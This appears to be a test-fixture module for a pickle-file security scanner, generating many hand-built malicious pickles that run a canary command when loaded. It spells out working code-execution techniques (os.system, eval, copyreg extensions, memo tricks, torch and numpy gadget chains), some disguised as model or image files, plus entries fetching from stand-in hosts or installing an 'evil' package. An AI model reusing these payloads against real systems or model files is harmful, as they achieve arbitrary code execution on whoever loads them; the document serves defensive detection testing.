"""Pickles that run a command when they are loaded, with every instruction that can bring a call about."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from tests.scan.hostile_files import CANARY

COMMAND = f"touch {CANARY}"
_CODE = f"open({CANARY!r}, 'w')"


def text(value: str) -> bytes:
    """Return the instruction that pushes a string."""
    data = value.encode("utf-8", "surrogatepass")
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    """Return the instructions that push an imported name."""
    return text(module) + text(attribute) + b"\x93"


def pickle(*parts: bytes) -> bytes:
    """Return a pickle of protocol 4."""
    return b"\x80\x04" + b"".join(parts) + b"."


def call(function: bytes, *arguments: bytes) -> bytes:
    """Return the instructions that call a function."""
    return function + b"(" + b"".join(arguments) + b"tR"


SYSTEM = call(name("os", "system"), text(COMMAND))
EVIL = pickle(SYSTEM)
_BYTES = b"B" + struct.pack("<I", len(EVIL)) + EVIL


def running_pickles() -> Iterator[tuple[str, bytes]]:
    """Yield pickles that `pickle.loads` runs the command of; a test demands that it does."""
    say = COMMAND.encode()
    yield "protocol0", b"cos\nsystem\n(S'" + say + b"'\ntR."
    yield "inst", b"(S'" + say + b"'\nios\nsystem\n."
    yield "inst_under_dict", b"(dS'weight'\n(S'" + say + b"'\nios\nsystem\ns."
    yield "obj", b"(csubprocess\nPopen\n(lS'touch'\naS'" + CANARY.encode() + b"'\nao."
    yield "obj_function_as_class", pickle(b"(", name("os", "system"), text(COMMAND), b"o")
    yield (
        "newobj_partial",
        pickle(name("functools", "partial"), b"(", name("os", "system"), text(COMMAND), b"t\x81", b")R"),
    )
    yield (
        "newobj_ex_partial",
        pickle(name("functools", "partial"), b"(", name("os", "system"), text(COMMAND), b"t}\x92", b")R"),
    )
    yield "setstate_partial", pickle(
        call(name("functools", "partial"), name("builtins", "print")),
        b"(", name("os", "system"), b"(", text(COMMAND), b"t}Nt", b"b", b")R",
    )  # fmt: skip
    yield "attrgetter", pickle(
        call(call(name("operator", "attrgetter"), text("system")), call(name("importlib", "import_module"), text("os"))),
        b"(", text(COMMAND), b"tR",
    )  # fmt: skip
    yield "methodcaller", pickle(
        call(name("operator", "methodcaller"), text("system"), text(COMMAND)),
        b"(", call(name("importlib", "import_module"), text("os")), b"tR",
    )  # fmt: skip
    yield (
        "extension_1",
        pickle(
            call(name("copyreg", "add_extension"), text("os"), text("system"), b"K\xf0"),
            b"0\x82\xf0(",
            text(COMMAND),
            b"tR",
        ),
    )
    yield "extension_2", pickle(
        call(name("copyreg", "add_extension"), text("os"), text("system"), b"M\x10\x27"),
        b"0\x83\x10\x27(", text(COMMAND), b"tR",
    )  # fmt: skip
    yield "extension_4", pickle(
        call(name("copyreg", "add_extension"), text("os"), text("system"), b"J\x10\x27\x01\x00"),
        b"0\x84\x10\x27\x01\x00(", text(COMMAND), b"tR",
    )  # fmt: skip
    yield "memo_overwritten", pickle(
        text("collections"), b"q\x00", b"0", text("os"), b"q\x00", b"0", text("OrderedDict"), b"q\x01", b"0",
        text("system"), b"q\x01", b"0", b"h\x00h\x01\x93(", text(COMMAND), b"tR",
    )  # fmt: skip
    yield "memo_of_the_module_alone", pickle(
        text("os"), b"\x94", b"0", text("system"), b"\x94", b"0", b"]", b"h\x00", b"h\x01", b"\x93", b"(",
        text(COMMAND), b"tRa",
    )  # fmt: skip
    yield (
        "memo_of_the_function_used_late",
        pickle(name("os", "system"), b"\x940", b"}", text("w"), b"K\x01s", b"0", b"h\x00(", text(COMMAND), b"tR"),
    )
    yield (
        "long_memo_index",
        pickle(name("os", "system"), b"r\xff\xff\x00\x00", b"0", b"j\xff\xff\x00\x00(", text(COMMAND), b"tR"),
    )
    yield "text_memo", b"cos\nsystem\np99999\n0g99999\n(S'" + say + b"'\ntR."
    yield "escaped_module_string", pickle(b"S'o\\x73'\n", b"S'sys\\164em'\n", b"\x93(", text(COMMAND), b"tR")
    yield "escaped_module_unicode", pickle(b"V\\u006f\\u0073\n", b"V\\u0073ystem\n", b"\x93(", text(COMMAND), b"tR")
    yield (
        "long_string_opcodes",
        pickle(
            b"\x8d" + struct.pack("<Q", 2) + b"os",
            b"X" + struct.pack("<I", 6) + b"system",
            b"\x93(",
            text(COMMAND),
            b"tR",
        ),
    )
    yield (
        "name_by_concatenation",
        pickle(call(name("operator", "add"), text("o"), text("s")), text("system"), b"\x93(", text(COMMAND), b"tR"),
    )
    yield "name_by_join", pickle(
        call(name("builtins", "str.join"), text(""), b"(" + text("o") + text("s") + b"l"),
        text("system"), b"\x93(", text(COMMAND), b"tR",
    )  # fmt: skip
    yield "python2_names", b"c__builtin__\neval\n(S'" + _CODE.replace("'", '"').encode() + b"'\ntR."
    yield "python2_commands", b"ccommands\ngetoutput\n(S'" + say + b"'\ntR."
    yield "result_popped", pickle(SYSTEM, b"0", b"}")
    yield "result_popped_by_mark", pickle(b"}", b"(", SYSTEM, b"1")
    yield "result_doubled", pickle(name("os", "system"), b"2", b"0", b"(", text(COMMAND), b"tR")
    yield "broken_behind_call", b"\x80\x04" + SYSTEM + b"\xff\xff\xff"
    yield "cut_short_behind_call", b"\x80\x04" + SYSTEM
    yield "underflow_behind_call", b"\x80\x04" + SYSTEM + b"000000."
    yield "bad_memo_behind_call", b"\x80\x04" + SYSTEM + b"h\xee."
    yield "frame_too_short", b"\x80\x04\x95" + struct.pack("<Q", 4) + b"}0}0" + SYSTEM + b"."
    yield "several_protocol_marks", b"\x80\x02\x80\x03\x80\x04" + SYSTEM + b"\x80\x00."
    yield "no_protocol_mark", SYSTEM + b"."
    yield "protocol_5_buffers", b"\x80\x05" + b"\x96" + struct.pack("<Q", 3) + b"abc0" + SYSTEM + b"."
    yield "dotted_through_json", pickle(call(name("json", "codecs.builtins.exec"), text(_CODE)))
    yield (
        "modules_of_sys",
        pickle(
            call(
                call(
                    name("builtins", "getattr"),
                    call(name("collections", "_sys.modules.get"), text("os")),
                    text("system"),
                ),
                text(COMMAND),
            )
        ),
    )
    yield "torch_serialization_os", pickle(call(name("torch.serialization", "os.system"), text(COMMAND)))
    yield (
        "torch_utils_sys_modules",
        pickle(
            call(
                call(
                    name("builtins", "getattr"),
                    call(name("torch._utils", "sys.modules.__getitem__"), text("os")),
                    text("system"),
                ),
                text(COMMAND),
            )
        ),
    )
    yield "numpy_core_os", pickle(call(name("numpy.lib._npyio_impl", "os.system"), text(COMMAND)))
    yield "load_from_bytes", pickle(call(name("torch.storage", "_load_from_bytes"), _legacy_bytes()))
    yield "nested_loads", pickle(call(name("pickle", "loads"), _BYTES))
    yield "nested_c_loads", pickle(call(name("_pickle", "loads"), _BYTES))
    yield (
        "unpickler_load",
        pickle(
            call(
                name("builtins", "getattr"),
                call(name("pickle", "Unpickler"), call(name("io", "BytesIO"), _BYTES)),
                text("load"),
            ),
            b")R",
        ),
    )
    yield (
        "import_dotted_name",
        pickle(call(call(name("torch._utils", "_import_dotted_name"), text("os.system")), text(COMMAND))),
    )
    yield "graph_module", pickle(
        call(
            name("torch.fx.graph_module", "_exec_with_source"),
            text(_CODE), b"}",
        )
    )  # fmt: skip
    yield "runstring", pickle(call(name("numpy.testing._private.utils", "runstring"), text(_CODE), b"}"))
    yield "pydoc_pipe", pickle(call(name("pydoc", "pipepager"), text("x"), text(COMMAND)))
    yield "timeit", pickle(call(name("timeit", "timeit"), text(_CODE), text("pass")))
    yield "cprofile", pickle(call(name("cProfile", "run"), text(_CODE)))
    yield (
        "code_interpreter",
        pickle(
            call(
                call(name("builtins", "getattr"), call(name("code", "InteractiveInterpreter")), text("runsource")),
                text(_CODE),
            )
        ),
    )
    yield (
        "map_in_list",
        pickle(
            call(
                name("builtins", "list"),
                call(name("builtins", "map"), name("os", "system"), b"(" + text(COMMAND) + b"l"),
            )
        ),
    )
    yield (
        "map_in_set",
        pickle(
            call(
                name("builtins", "set"),
                call(name("builtins", "map"), name("os", "system"), b"(" + text(COMMAND) + b"l"),
            )
        ),
    )
    yield (
        "defaultdict_factory",
        pickle(
            call(
                name("collections", "defaultdict.__getitem__"),
                call(
                    name("collections", "defaultdict"),
                    call(name("functools", "partial"), name("os", "system"), text(COMMAND)),
                ),
                text("x"),
            )
        ),
    )
    yield "append_calls_extend", pickle(
        call(name("types", "SimpleNamespace")),
        b"}", text("append"), name("os", "system"), b"s", b"b", text(COMMAND), b"a",
    )  # fmt: skip
    yield "build_sets_state_method", pickle(
        call(name("types", "SimpleNamespace")),
        b"}", text("__setstate__"), name("os", "system"), b"sb", text(COMMAND), b"b",
    )  # fmt: skip
    yield "copyreg_reconstructor", pickle(
        call(name("copyreg", "_reconstructor"), name("subprocess", "Popen"), name("builtins", "object"), b"N"),
        b"0", SYSTEM,
    )  # fmt: skip
    yield "dict_key", pickle(b"(", SYSTEM, text("value"), b"d")
    yield "in_frozen_set", pickle(b"(", SYSTEM, b"\x91")
    yield "in_set", pickle(b"\x8f(", SYSTEM, b"\x90")
    yield "in_tuple_of_three", pickle(b"K\x01K\x02", SYSTEM, b"\x87")
    yield "behind_long_text", pickle(text("x" * 70_000), b"0", SYSTEM)
    yield "behind_many_numbers", pickle(b"(" + b"K\x01" * 200_000 + b"1", SYSTEM)
    yield "deep_lists", pickle(b"]" * 3000, SYSTEM, b"a" * 3000)
    yield (
        "runpy",
        pickle(
            call(
                name("runpy", "_run_code"),
                call(name("builtins", "compile"), text(_CODE), text("x"), text("exec")),
                b"}",
            )
        ),
    )
    yield (
        "ctypes_system",
        pickle(
            call(
                call(name("builtins", "getattr"), call(name("ctypes", "CDLL"), b"N"), text("system")),
                b"C" + bytes([len(COMMAND)]) + COMMAND.encode(),
            )
        ),
    )
    yield "posix_name", pickle(call(name("posix", "system"), text(COMMAND)))
    yield "spawn", pickle(call(name("os", "spawnlp"), b"K\x00", text("touch"), text("touch"), text(CANARY)))
    yield (
        "multiprocessing_util",
        pickle(call(name("subprocess", "check_call"), b"(" + text("touch") + text(CANARY) + b"l")),
    )
    yield (
        "asyncio_subprocess",
        pickle(call(name("asyncio", "run"), call(name("asyncio", "create_subprocess_shell"), text(COMMAND)))),
    )
    yield "logging_handler_writes", pickle(call(name("logging", "FileHandler"), text(CANARY)))
    yield "pathlib_touch", pickle(call(name("pathlib", "Path.touch"), call(name("pathlib", "Path"), text(CANARY))))
    yield "write_with_io_open", pickle(call(name("io", "open"), text(CANARY), text("w")))
    yield "numpy_savetxt", pickle(call(name("numpy", "savetxt"), text(CANARY), b"]"))
    yield (
        "numpy_memmap_writes",
        pickle(call(name("numpy", "memmap"), text(CANARY), text("uint8"), text("w+"), b"K\x00", b"K\x04")),
    )
    yield (
        "numpy_fromfile_then_tofile",
        pickle(call(name("numpy", "ndarray.tofile"), call(name("numpy", "zeros"), b"K\x02"), text(CANARY))),
    )
    yield "torch_save_writes", pickle(call(name("torch", "save"), b"K\x01", text(CANARY)))


def _legacy_bytes() -> bytes:
    """Return bytes that `torch.load` reads in its old layout."""
    return b"B" + struct.pack("<I", len(EVIL)) + EVIL


def other_pickles() -> Iterator[tuple[str, bytes]]:
    """Yield pickles that run something under conditions: in a stream, with another reader, or with a name that is registered."""
    yield "extension_without_entry.pkl", pickle(b"\x82\x01(", text(COMMAND), b"tR")
    yield "second_in_stream.pkl", pickle(b"}") + EVIL
    yield "third_behind_zeros.pkl", pickle(b"}") + pickle(b"]") + b"\0" * 4096 + EVIL
    yield "behind_junk.pkl", pickle(b"}") + b"\xfe\xfd junk " * 20 + EVIL
    yield "pickle_in_bytes.pkl", pickle(b"}", text("payload"), _BYTES, b"s")
    yield (
        "pickle_in_bytearray.pkl",
        b"\x80\x05}" + text("payload") + b"\x96" + struct.pack("<Q", len(EVIL)) + EVIL + b"s.",
    )
    yield (
        "pickle_in_latin1_text.pkl",
        pickle(
            b"}", text("payload"), call(name("_codecs", "encode"), text(EVIL.decode("latin1")), text("latin1")), b"s"
        ),
    )
    yield "persistent_id_call.pkl", pickle(SYSTEM, b"Q")
    yield "persistent_id_text.pkl", b"P" + COMMAND.encode() + b"\n0" + b"cos\nsystem\n(S'x'\ntR."
    yield "picture.jpg", EVIL
    yield "README.txt", b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR."
    yield "weights.safetensors", EVIL
    yield "model.gguf", EVIL
    yield "model.onnx", EVIL
    yield "model.h5", EVIL
    yield "noextension", EVIL
    yield (
        "collections_dict_changed.pkl",
        pickle(name("collections", "__dict__"), text("OrderedDict"), name("torch", "load"), b"s"),
    )
    yield "environment_changed.pkl", pickle(name("os", "environ"), text("LD_PRELOAD"), text("/tmp/x.so"), b"s")
    yield (
        "class_changed.pkl",
        pickle(name("collections", "OrderedDict"), b"N}", text("__reduce__"), name("torch", "load"), b"s\x86b"),
    )
    yield "import_only.pkl", pickle(name("antigravity", "fly"))
    yield "module_beside_file.pkl", pickle(call(name("helper_next_to_me", "go")))
    yield "torch_hub.pkl", pickle(call(name("torch.hub", "load"), text("evil/repo"), text("model")))
    yield "torch_jit_load.pkl", pickle(call(name("torch.jit", "load"), text("//share/x.pt")))
    yield "numpy_load.pkl", pickle(call(name("numpy", "load"), text("/tmp/x.npy"), b"N", b"\x88"))
    yield "pandas_read_pickle.pkl", pickle(call(name("pandas", "read_pickle"), text("http://host/x.pkl")))
    yield "joblib_load.pkl", pickle(call(name("joblib", "load"), text("http://host/x.pkl")))
    yield "torch_load_inline.pkl", pickle(call(name("torch", "load"), call(name("io", "BytesIO"), _BYTES)))
    yield "keras_get_file.pkl", pickle(call(name("keras.utils", "get_file"), text("x"), text("http://host/x")))
    yield "urlopen.pkl", pickle(call(name("urllib.request", "urlretrieve"), text("http://host/x"), text("/tmp/x")))
    yield "socket.pkl", pickle(call(name("socket", "create_connection"), b"(" + text("host") + b"K\x50t"))
    yield "smtplib.pkl", pickle(call(name("smtplib", "SMTP"), text("host")))
    yield "sqlite.pkl", pickle(call(name("sqlite3", "connect"), text("/tmp/x.db")))
    yield "exit.pkl", pickle(call(name("builtins", "exit")))
    yield "os_remove.pkl", pickle(call(name("os", "remove"), text("/tmp/x")))
    yield "shutil.pkl", pickle(call(name("shutil", "rmtree"), text("/tmp/x")))
    yield "webbrowser.pkl", pickle(call(name("webbrowser", "open"), text("http://host")))
    yield "thread.pkl", pickle(call(name("_thread", "start_new_thread"), name("os", "system"), b"(" + text("x") + b"t"))
    yield "torch_library.pkl", pickle(call(name("torch.ops", "load_library"), text("/tmp/x.so")))
    yield "torch_cpp_extension.pkl", pickle(call(name("torch.utils.cpp_extension", "load"), text("x"), b"]"))
    yield "torch_inductor.pkl", pickle(call(name("torch._inductor.codecache", "PyCodeCache.load"), text("import os")))
    yield "torch_collect_env.pkl", pickle(call(name("torch.utils.collect_env", "run"), text(COMMAND)))
    yield (
        "execwrapper.pkl",
        pickle(call(name("torch.jit.unsupported_tensor_ops", "execWrapper"), text("import os"), b"}", b"}")),
    )
    yield (
        "distributed_pickler.pkl",
        pickle(call(name("torch.distributed.rpc.internal", "_InternalRPCPickler.deserialize"), b"N", _BYTES, b"]")),
    )
    yield "sklearn_estimator_os.pkl", pickle(call(name("sklearn.utils", "os.system"), text(COMMAND)))
    yield (
        "transformers_dynamic_module.pkl",
        pickle(
            call(
                name("transformers.dynamic_module_utils", "get_class_from_dynamic_module"),
                text("m.C"),
                text("evil/repo"),
            )
        ),
    )
    yield "doctest.pkl", pickle(call(name("doctest", "debug_script"), text("import os")))
    yield "site.pkl", pickle(call(name("site", "addpackage"), text("/tmp"), text("x.pth"), b"N"))
    yield "linecache.pkl", pickle(call(name("imaplib", "IMAP4_stream"), text(COMMAND)))
    yield "venv.pkl", pickle(call(name("venv", "create"), text("/tmp/x")))
    yield "pip.pkl", pickle(call(name("pip", "main"), b"(" + text("install") + text("evil") + b"l"))
    yield "unknown_package.pkl", pickle(call(name("some.company.package", "Loader"), text("x")))
